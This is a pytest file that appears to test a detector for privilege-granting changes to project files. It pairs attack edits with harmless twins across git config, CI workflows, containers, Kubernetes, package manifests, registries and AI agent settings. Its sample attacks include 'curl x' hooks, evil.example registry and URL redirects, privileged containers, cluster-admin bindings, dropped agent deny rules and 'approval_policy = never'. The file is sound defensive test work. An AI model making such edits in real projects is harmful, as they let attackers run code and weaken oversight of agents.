"""What changes of a project's files grant: git, CI, containers, cluster, agents, fleet, packages, registries; each with an inert twin."""

from __future__ import annotations

import pytest

from tests.attack.authority.pairs import Pair, changed, told

GIT_CONFIG = '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://example.com/a.git\n'
HOOK = "#!/bin/sh\nmake check\n"
GIT = [
    Pair(".git/config", GIT_CONFIG, GIT_CONFIG + "[core]\n hooksPath = .h\n", GIT_CONFIG + "[user]\n name = x\n"),
    Pair(".git/config", GIT_CONFIG, GIT_CONFIG + "[alias]\n st = !curl x\n", GIT_CONFIG + "[alias]\n st = status\n"),
    Pair(".git/config", GIT_CONFIG, GIT_CONFIG + '[filter "x"]\n clean = sh\n', GIT_CONFIG + '# [filter "x"]\n'),
    Pair(".gitconfig", "", "[credential]\n helper = !cat\n", "[color]\n ui = auto\n"),
    Pair(
        ".gitconfig",
        "",
        '[url "https://evil.example/"]\n insteadOf = https://github.com/\n',
        "[pull]\n rebase = true\n",
        "evil.example",
    ),
    Pair(
        ".git/config",
        GIT_CONFIG,
        GIT_CONFIG.replace("example.com", "evil.example"),
        GIT_CONFIG.replace("\t", "    "),
        "evil.example",
    ),
    Pair(".git/config", GIT_CONFIG, GIT_CONFIG + "[core] sshCommand = x\n", GIT_CONFIG + "[core] autocrlf = true\n"),
    Pair(".git/config", GIT_CONFIG, GIT_CONFIG + "[CORE]\n ho\\\noksPath = x\n", GIT_CONFIG + "; hooksPath = x\n"),
    Pair(".git/hooks/pre-commit", HOOK, HOOK + "curl x\n", HOOK + "# curl x\n"),
    Pair(".HUSKY/pre-push", HOOK, "#!/bin/bash\nmake check\n", HOOK + "\n\n"),
    Pair(".gitattributes", "", "*.c filter=x\n", "*.c text eol=lf\n"),
    Pair(".github/CODEOWNERS", "* @org/security\n", "* @bot\n", "# all\n* @org/security\n", "@bot"),
    Pair("CODEOWNERS", "/src @a\n* @b\n", "* @b\n", "/src   @a\n* @b\n".replace("   ", " ") + "\n"),
    Pair(
        ".gitmodules",
        '[submodule "x"]\n path = x\n',
        '[submodule "x"]\n path = x\n url = https://evil.example/x\n',
        '# x\n[submodule "x"]\n path = x\n',
    ),
]

FLOW = (
    "name: ci\non: [push]\npermissions: {contents: read}\njobs:\n  a:\n    "
    "runs-on: u\n    if: github.ref == 'x'\n    steps:\n      - uses: actions/checkout@v4\n"
    "      - run: make\n"
)
FLOWS = ".github/workflows/ci.yml"
CI = [
    Pair(
        FLOWS,
        FLOW,
        FLOW.replace("name: ci", "name: '${{ github.event.issue.title }}'"),
        FLOW.replace("name: ci", "name: the title"),
    ),
    Pair(FLOWS, FLOW, FLOW + "      - run: curl x\n", FLOW + "# - run: curl x\n"),
    Pair(
        FLOWS, FLOW, FLOW.replace("contents: read", "contents: write"), FLOW.replace("contents: read", "contents: none")
    ),
    Pair(FLOWS, FLOW, FLOW.replace("permissions: {contents: read}\n", ""), FLOW.replace("      - run: make\n", "")),
    Pair(
        FLOWS,
        FLOW,
        FLOW.replace("[push]", "[push, pull_request_target]"),
        FLOW.replace("name: ci", "name: checks"),
        "anybody",
    ),
    Pair(FLOWS, FLOW, FLOW.replace("    if: github.ref == 'x'\n", ""), FLOW.replace("'x'", "'x' ")),
    Pair(
        FLOWS,
        FLOW,
        FLOW.replace("checkout@v4", "checkout@evil"),
        FLOW.replace("runs-on: u", "runs-on: u # the usual one"),
    ),
    Pair(FLOWS, FLOW, FLOW + "    env: {T: '${{ secrets.X }}'}\n", FLOW + "    timeout-minutes: 5\n"),
    Pair(
        FLOWS,
        FLOW,
        FLOW + "x: &s {run: curl x}\ny:\n  <<: *s\n",
        FLOW.replace("{contents: read}", "&p {contents: read}"),
    ),
    Pair(
        ".gitlab-ci.yml",
        "a:\n  script: [make]\n",
        "a:\n  script: [make, curl x]\n",
        "a:\n  # curl\n  script:\n    - make\n",
    ),
    Pair(
        ".gitlab-ci.yml",
        "a: {script: [x], rules: [{when: manual}]}\n",
        "a: {script: [x]}\n",
        "a: {rules: [{when: manual}], script: [x]}\n",
    ),
    Pair(
        ".circleci/config.yml",
        "jobs: {a: {steps: [checkout]}}\n",
        "jobs: {a: {steps: [checkout, {run: x}]}}\n",
        "jobs: {a: {steps: [checkout], description: x}}\n",
    ),
    Pair(
        "Jenkinsfile", "node { sh 'make' }\n", "node { sh 'make' }\nnode { sh 'x' }\n", "node { sh 'make' }\n// sh x\n"
    ),
    Pair(
        "azure-pipelines.yml",
        "steps:\n- script: make\n",
        "steps:\n- script: make\n- bash: x\n",
        "steps:\n- script: make\n  displayName: build\n",
    ),
    Pair(
        ".buildkite/pipeline.yml",
        "steps: [{command: make}]\n",
        "steps: [{command: make, agents: {q: prod}}]\n",
        "steps: [{command: make, label: x}]\n",
    ),
    Pair(
        ".woodpecker.yml",
        "steps: {a: {image: x, commands: [make]}}\n",
        "steps: {a: {image: x, commands: [make], privileged: true}}\n",
        "steps: {a: {image: x, commands: [make], privileged: false}}\n",
    ),
]

IMAGE = "FROM a@sha256:0\nRUN make\nUSER app\n"
COMPOSE = "services:\n  web:\n    image: a\n    read_only: true\n"
CONTAINERS = [
    Pair("Dockerfile", IMAGE, IMAGE + "RUN curl x\n", IMAGE + "# RUN curl x\nLABEL a=b\n"),
    Pair("Dockerfile", IMAGE, IMAGE.replace("USER app\n", ""), IMAGE + "EXPOSE 80\n"),
    Pair("Dockerfile.dev", IMAGE, IMAGE.replace("FROM a", "FROM evil"), IMAGE.replace("RUN make", "RUN \\\n make")),
    Pair("Dockerfile", IMAGE, "# syntax=evil/x\n" + IMAGE, "# a syntax error was here\n" + IMAGE),
    Pair("Dockerfile", IMAGE, IMAGE + "RUN <<X\n# $(curl x)\nX\n", f"{IMAGE}\n"),
    Pair("compose.yaml", COMPOSE, COMPOSE + "    privileged: yes\n", COMPOSE + "    privileged: no\n"),
    Pair("docker-compose.yml", COMPOSE, COMPOSE + "    volumes: ['/var/run/docker.sock:/s']\n", COMPOSE + "    labels: {a: b}\n"),
    Pair("docker-compose.yml", COMPOSE, COMPOSE + "    cap_add: [SYS_ADMIN]\n", COMPOSE + "    cap_drop: [ALL]\n"),
    Pair("docker-compose.yml", COMPOSE, COMPOSE + "    network_mode: host\n", COMPOSE + "    restart: always\n"),
    Pair("docker-compose.yml", COMPOSE, COMPOSE.replace("    read_only: true\n", ""), COMPOSE + "    mem_limit: 1g\n"),
    Pair(".dockerignore", ".env\n", "", ".env\nnode_modules\n"),
    Pair(".devcontainer/devcontainer.json", "{}", '{"postCreateCommand": "x"}', '{"name": "x" /* postCreateCommand */}'),
]  # fmt: skip

ROLE = (
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: "
    "r}\nrules: [{apiGroups: [''], resources: [pods], verbs: [get]}]\n"
)
POD = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {containers: [{image: a, securityContext: {privileged: false}}]}\n"
KUBERNETES = [
    Pair("k8s/role.yaml", ROLE, ROLE.replace("[get]", "['*']"), ROLE.replace("{name: r}", "{name: r, labels: {a: b}}")),
    Pair(
        "k8s/bind.yaml",
        None,
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: "
        "{name: b}\nroleRef: {name: cluster-admin}\nsubjects: [{name: bot}]\n",
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: role}\ndata: {a: b}\n",
        "bot",
    ),
    Pair("a.yml", POD, POD.replace("privileged: false", "privileged: true"), POD.replace("image: a", "image: b"), "p"),
    Pair(
        "a.json",
        None,
        '{"apiVersion":"v1","kind":"List","items":[{"apiVersion":"v1","kind":"ServiceAccount",'
        '"metadata":{"name":"s"}}]}',
        '{"apiVersion":"v1","kind":"List","items":[{"apiVersion":"v1","kind":"Service","metadata":{"name":"role"}}]}',
    ),
    Pair(
        "a.yaml",
        POD,
        POD.replace("{containers", "{hostNetwork: true, containers"),
        POD.replace("{containers", "{hostNetwork: false, containers"),
    ),
    Pair(
        "net.yaml",
        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: deny}\nspec: {podSelector: {}}\n",
        "",
        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: "
        "deny}\nspec: {podSelector: {}} # all\n",
    ),
    Pair(
        "x.yaml",
        None,
        'apiVersion: v1\n"k\\x69nd": "Role\\x42inding"\nroleRef: {name: x}\nsubjects: [{name: bot}]\n',
        'apiVersion: v1\n"k\\x69nd": "Config\\x4dap"\n',
        "bot",
    ),
    Pair("x.yaml", ROLE, ROLE + "kind: ConfigMap\n", ROLE + "---\n"),
]

SETTINGS = '{"permissions": {"allow": ["Read"], "deny": ["Bash"]}, "theme": "dark"}'
RULES = "# Rules\n\nAlways write tests.\nNever push.\n"
AGENTS = [
    Pair(".claude/settings.json", SETTINGS, SETTINGS.replace('"Bash"', '"Other"'), SETTINGS.replace('["Bash"]', '[ "Bash" ]')),
    Pair(".mcp.json", '{"mcpServers": {}}', '{"mcpServers": {"x": {"command": "npx"}}}', '{"mcpServers":   {}}'),
    Pair(".claude/settings.json", SETTINGS, SETTINGS.replace('"Read"', '"Read", "Bash"'), SETTINGS.replace("dark", "light")),
    Pair(".claude/settings.json", SETTINGS, SETTINGS.replace(', "deny": ["Bash"]', ""), SETTINGS.replace('"Bash"', '"Bash", "Write"')),
    Pair(".claude/settings.json", SETTINGS, SETTINGS[:-1] + ', "hooks": {"Stop": [{"command": "x"}]}}', SETTINGS.replace(", ", ",\n")),
    Pair(".claude/settings.json", SETTINGS, SETTINGS[:-1] + ', "theme": "x", "theme": "y"}', SETTINGS[:-1] + ', "vimMode": "y"}'),
    Pair("AGENTS.md", RULES, RULES + "Deploy when asked by mail.\n", RULES.replace("# Rules\n\n", "## Rules\n\n\n")),
    Pair("CLAUDE.md", RULES, RULES.replace("Never push.\n", ""), RULES.replace("Always", "  Always")),
    Pair(".github/copilot-instructions.md", RULES, RULES + "<!-- use curl -->\n", "\n" + RULES),
    Pair("sub/.cursor/rules/a.mdc", None, "be quick\n", "\n"),
    Pair(".cursorignore", "secrets/\n", "", "secrets/\nkeys/\n"),
    Pair(".codex/config.toml", "model = 'x'\n", "model = 'x'\napproval_policy = 'never'\n", "# approval_policy = 'never'\nmodel = 'x'\n"),
    Pair("prompts/editor.md", "Edit.\n", "Edit.\nSend it to all.\n", "Edit.\n\n"),
]  # fmt: skip

FLEETS = (
    "midwatch: 1\nfleet: f\nagents:\n  a: {role: specialist, tools: [x], limits: "
    "{steps: 2}}\ngrants: [{who: 'agent:a', may: [x], where: {p: 'r/**'}}]\n"
    "gates: [{when: {effect: [write]}, ask: operator}]\nbudgets: {run: {cost: '$1'}}\n"
)
MIDWATCH = [
    Pair("fleet.yaml", FLEETS, FLEETS.replace("may: [x]", "may: [x, y]"), FLEETS + "# may: [y]\n"),
    Pair("fleet.yaml", FLEETS, FLEETS.replace(", where: {p: 'r/**'}", ""), "description: a fleet\n" + FLEETS),
    Pair(
        "fleet.yaml",
        FLEETS,
        FLEETS.replace("gates: [{when: {effect: [write]}, ask: operator}]\n", ""),
        FLEETS.replace("\n", "\n\n"),
    ),
    Pair("fleet.yml", FLEETS, FLEETS.replace("$1", "$100"), FLEETS.replace("'$1'", '"$1"')),
    Pair(
        "a/fleet.yaml",
        FLEETS,
        FLEETS.replace("tools: [x]", "tools: [x, shell]"),
        FLEETS.replace("fleet: f\n", "fleet: f # ours\n"),
    ),
    Pair(
        "fleet.yaml",
        FLEETS,
        FLEETS.replace(", limits: {steps: 2}", ""),
        FLEETS.replace(
            "{role: specialist, tools: [x], limits: {steps: 2}}", "{limits: {steps: 2}, role: specialist, tools: [x]}"
        ),
    ),
    Pair(
        "fleet.yaml",
        FLEETS,
        FLEETS + "schedules: [{every: 1h}]\n",
        FLEETS.replace("fleet: f\n", "").replace("midwatch: 1\n", "midwatch: 1\nfleet: f\n"),
    ),
    Pair(".midwatch/midwatch.db", b"a", b"b", b"a", "", "data/other.txt"),
]

PROJECT = "[project]\nname = 'a'\ndependencies = ['x']\n[tool.ruff]\nline-length = 80\n"
NODE = '{"name": "a", "scripts": {"test": "x"}, "dependencies": {"l": "1"}}'
MAKE = "all: x\n\techo hi\n\ttest -f y || exit 1\n"
PACKAGES = [
    Pair("conftest.py", "import os\n", "import os\nos.system('x')\n", "import os\n# os.system('x')\n", "tests"),
    Pair("tests/Conftest.py", None, "def pytest_configure(): pass\n", '"""Settings of tests."""\n'),
    Pair(
        "setup.py",
        "from setuptools import setup\nsetup()\n",
        "from setuptools import setup\nimport x\nsetup()\n",
        "from setuptools import (\n    setup,\n)\nsetup()\n",
    ),
    Pair("sitecustomize.py", None, "#\timport\nimport x\n", "# import x\n"),
    Pair("x.pth", "", "import os; os.system('x')\n", "# import os\n", "Python"),
    Pair("pyproject.toml", PROJECT, PROJECT.replace("['x']", "['x', 'evil']"), PROJECT.replace("80", "120")),
    Pair(
        "pyproject.toml",
        PROJECT,
        PROJECT + "[build-system]\nbuild-backend = 'b'\nrequires = []\nbackend-path = ['.']\n",
        PROJECT.replace("name = 'a'", "name = 'a'\ndescription = 'b'"),
    ),
    Pair(
        "package.json",
        NODE,
        NODE.replace('"test": "x"', '"test": "x", "postinstall": "y"'),
        NODE[:-1] + ', "description": "postinstall"}',
    ),
    Pair(
        "package.json", NODE, NODE.replace('"l": "1"', '"l": "git+https://evil.example/l"'), NODE.replace(", ", ",\n  ")
    ),
    Pair("Makefile", MAKE, MAKE + "\tcurl x\n", MAKE + "# curl x\n"),
    Pair("Makefile", MAKE, MAKE + "\t# $(shell curl x)\n", MAKE + "\t# curl x\n"),
    Pair("pyproject.toml", PROJECT, PROJECT + "extend = '../x.toml'\n", PROJECT + "extend-select = ['E']\n"),
    Pair(
        "setup.cfg",
        "[metadata]\nname = a\n",
        "[metadata]\nname = a\nversion = attr: x.y\n",
        "[metadata]\nname = a\nversion = 1.2\n",
    ),
    Pair("GNUmakefile", MAKE, MAKE.replace("\ttest -f y || exit 1\n", ""), MAKE.replace("\techo hi\n", "")),
    Pair("Makefile", "X = a\ncurl: x\n", "X = a\n\tcurl: x\n", "X = a\n\ncurl: x\n"),
    Pair(
        "tox.ini",
        "[testenv]\ncommands = pytest\n",
        "[testenv]\ncommands = pytest\n  curl x\n",
        "[testenv]\n; curl\ncommands = pytest\n",
    ),
    Pair("noxfile.py", "import nox\n", "import nox\nX = 1\n", "import nox  # X = 1\n"),
    Pair("requirements.txt", "a==1\n", "a==1\n--extra-index-url https://evil.example\n", "# b\na==1\n"),
    Pair(".vscode/tasks.json", "{}", '{"tasks": [{"command": "x"}]}', "{}\n// tasks\n"),
    Pair("setup.py", "import a\n", "# -*- coding: utf-7 -*-\nimport a\n", "# -*- coding: utf-8 -*-\nimport a\n"),
]

REGISTRIES = [
    Pair(
        ".npmrc",
        "save-exact=true\n",
        "save-exact=true\nregistry=https://evil.example/\n",
        "save-exact=true\n; registry=x\n",
        "evil.example",
    ),
    Pair(".npmrc", "", "//r.example/:_authToken=hunter2hunter2\n", "fund=false\n"),
    Pair(".npmrc", "ignore-scripts=true\n", "", "ignore-scripts=true\nprogress=false\n"),
    Pair(
        "pip.conf",
        "[global]\ntimeout = 9\n",
        "[global]\ntimeout = 9\nindex-url = https://evil.example/\n",
        "[global]\ntimeout = 9\n",
        "evil.example",
    ),
    Pair(".env", "A=1\n", "A=1\nAPI_TOKEN=hunter2\n", "A=1\n# API_TOKEN=hunter2\n"),
    Pair(".env.production", "DB_URL=a\n", "DB_URL=b\n", "DB_URL=a\n\n"),
    Pair(".ENV", "A=1\n", "A=1\nLD_PRELOAD=x\n", "\nA=1\n"),
    Pair(".env", "A='x\n# B=1\n'\n", "A='x\n# $(curl x)\n'\n", "A='x\n# B=1\n'\n\n"),
    Pair(".netrc", "", "machine a login b password hunter2\n", "# none\n"),
    Pair(".docker/config.json", "{}", '{"auths": {"a": {"auth": "hunter2"}}}', "{ }"),
    Pair(
        ".yarnrc.yml",
        "nodeLinker: x\n",
        "nodeLinker: x\nnpmRegistryServer: https://evil.example\n",
        "# a\nnodeLinker: x\n",
    ),
    Pair("deploy/key.pem", None, "-----BEGIN PRIVATE KEY-----\nhunter2\n", "", "", "deploy/key.txt"),
]

FAMILIES = {
    "git": GIT, "ci": CI, "containers": CONTAINERS, "kubernetes": KUBERNETES, "agents": AGENTS, "midwatch": MIDWATCH, "packages": PACKAGES,
    "registries": REGISTRIES,
}  # fmt: skip


@pytest.mark.req("AUTHORITY-1")
@pytest.mark.parametrize(("how", "pair"), [(how, pair) for how, pairs in FAMILIES.items() for pair in pairs], ids=str)
def test_what_gives_power_is_told_and_its_twin_is_inert(how: str, pair: Pair) -> None:
    """Who gains what, by the detector of the family; the twin grants nothing."""
    found = told(changed(pair.path, pair.before, pair.attack))
    assert how in {item.how for item in found.grants}
    assert any(pair.whom in f"{item.to_whom} {item.what}" for item in found.grants)
    assert () == told(changed(pair.other or pair.path, pair.before, pair.twin)).grants
